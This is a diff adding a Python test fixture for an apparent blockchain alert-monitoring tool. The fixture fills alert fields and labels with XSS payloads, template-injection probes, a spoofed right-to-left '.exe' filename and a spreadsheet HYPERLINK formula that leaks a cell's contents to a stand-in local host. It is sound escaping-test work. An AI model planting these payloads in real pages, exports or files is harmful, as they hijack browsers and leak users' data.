@@ -1,0 +1,84 @@
+"""Alerts as an attacker would write them, where he gets to write something."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Final
+
+import numpy as np
+import pyarrow as pa
+
+from chainwarden.schema import (
+    ZERO_ADDRESS,
+    Alert,
+    Chain,
+    Cursor,
+    Evidence,
+    Label,
+    Position,
+    Reason,
+    Role,
+    Severity,
+)
+from store.lake import Lake
+from store.ledger import Commit, Ledger
+from tests.store.made import blocks
+
+SENTENCE: Final = (
+    "</p><script>document.title='owned'</script><img src=http://127.0.0.1:9/x onerror=alert(1)> "
+    "\"'&amp; | [click](http://127.0.0.1:9/y) `code` **bold** @team {{ 7*7 }} {% raw %}"
+)
+WORD: Final = '"><svg onload=alert(1)><a href="http://127.0.0.1:9/z">'
+FORMULA: Final = '=HYPERLINK("http://127.0.0.1:9/"&A1;"x")'
+CHAIN: Final = Chain("<b>net", 5)
+THIEF: Final = bytes([0xAA]) * 20
+
+
+def alert(number: int, **changed: object) -> Alert:
+    """An alert whose every text is hostile."""
+    fields: dict[str, object] = {
+        "id": f"{number:032x}",
+        "chain": CHAIN,
+        "rule": f"<i>{WORD}",
+        "rule_version": 1,
+        "typology": FORMULA,
+        "severity": Severity.HIGH,
+        "score": 0.9,
+        "subject": THIEF,
+        "role": Role.ATTACKER,
+        "position": Position(100 + number, b""),
+        "block_timestamp": 1_700_000_000 + number,
+        "transaction_hash": bytes([7]) * 32,
+        "ordinal": -1,
+        "sentence": SENTENCE,
+        "reasons": (Reason(f"{FORMULA}{WORD}", float("inf"), -0.5, float("nan")),),
+        "evidence": Evidence(
+            (bytes([7]) * 32,), (THIEF, bytes([8]) * 20), ((None, 2**256 - 1), (THIEF, 5))
+        ),
+    }
+    return Alert(**{**fields, **changed})  # type: ignore[arg-type]
+
+
+def write(out: Path, with_features: bool = True) -> None:
+    """A ledger and a lake of these alerts."""
+    batch = blocks(100, 7)
+    lake = Lake(out / "lake", CHAIN)
+    values = pa.array(np.linspace(-0.1, 1.2, batch.flows.num_rows))
+    features = batch.flows.select(["block_number", "ordinal", "batch_index"])
+    for name in ("flow_score", "from_score", "to_score"):
+        features = features.append_column(name, values)
+    files = lake.write(batch, features if with_features else None)
+    subject = batch.flows["from_address"][0].as_py()
+    alerts = [
+        alert(1),
+        alert(2, sentence=FORMULA, subject=subject),
+        alert(3, sentence="\u202egnp.exe\r\n# heading\x00", rule="@rule", severity=Severity.LOW),
+        alert(4, subject=ZERO_ADDRESS, severity=Severity.CRITICAL),
+    ]
+    with Ledger.open(out / "ledger.duckdb", CHAIN, "replay") as ledger:
+        ledger.commit(
+            Commit(Cursor(Position(106, b""), blocks=7), alerts=alerts, files_added=files)
+        )
+        for word in (WORD, FORMULA):
+            ledger.add_label(Label(subject, word, "me"))
+            ledger.add_label(Label(THIEF, word, "me"))
